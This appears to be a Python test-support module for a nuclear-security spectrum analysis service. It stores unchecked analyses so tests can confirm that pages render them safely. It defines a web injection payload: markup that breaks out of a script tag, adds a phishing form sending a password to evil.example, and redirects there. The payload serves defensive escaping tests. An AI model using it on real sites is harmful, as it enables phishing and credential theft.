"""Analyses written straight to a node's store, as a record received before its portions
were checked (or by an older release) would be: what a page must show without harm."""

from __future__ import annotations

import copy
from functools import cache
from pathlib import Path
from typing import Any

from nucsec.markings import parse_banner
from nucsec.node import Node
from nucsec.service import analysis_methods as methods
from nucsec.service import labelled
from nucsec.service.analyses import ANALYSIS
from nucsec.service.labelled import Draft
from nucsec.service.users import principal_of

SPECTRUM = Path(__file__).resolve().parents[1] / "data" / "spectra" / "curie_hpge_eu152_7cm.spe"
#: markup a hostile partner puts in a peak label: it must stay text
INJECTION = (
    '</script><form id="phish" action="https://evil.example/"><input name="password">'
    '</form><meta http-equiv="refresh" content="0;url=https://evil.example/"><script>'
)


@cache
def _run() -> tuple[dict[str, Any], dict[str, Any]]:
    run = methods.run_spectrum(SPECTRUM.read_bytes(), SPECTRUM.name, max_bytes=50_000_000)
    return run.result, run.plot()


def spectrum_portions() -> tuple[dict[str, Any], dict[str, Any]]:
    """A real spectrum analysis's ``result`` and ``plot`` (copies, to tamper with)."""
    result, plot = _run()
    return copy.deepcopy(result), copy.deepcopy(plot)


def store_analysis(
    node: Node,
    result: dict[str, Any],
    plot: dict[str, Any] | None,
    *,
    username: str = "doe.analyst",
    banner: str = "SECRET//REL TO USA, JPN",
    title: str = "Stored analysis",
) -> str:
    """Write a spectrum analysis with these portions, unchecked; return its id."""
    label = parse_banner(banner, node.ctx)
    method = {"method": "spectrum", "params": {}, "versions": {}, "source": None}
    values: dict[str, Any] = {"title": title, "result": result, "method": method}
    if plot is not None:
        values["plot"] = plot
    draft = Draft(values=values, labels=dict.fromkeys(values, label))
    view = labelled.create(node, principal_of(node, username), ANALYSIS, draft)
    return str(view.id)
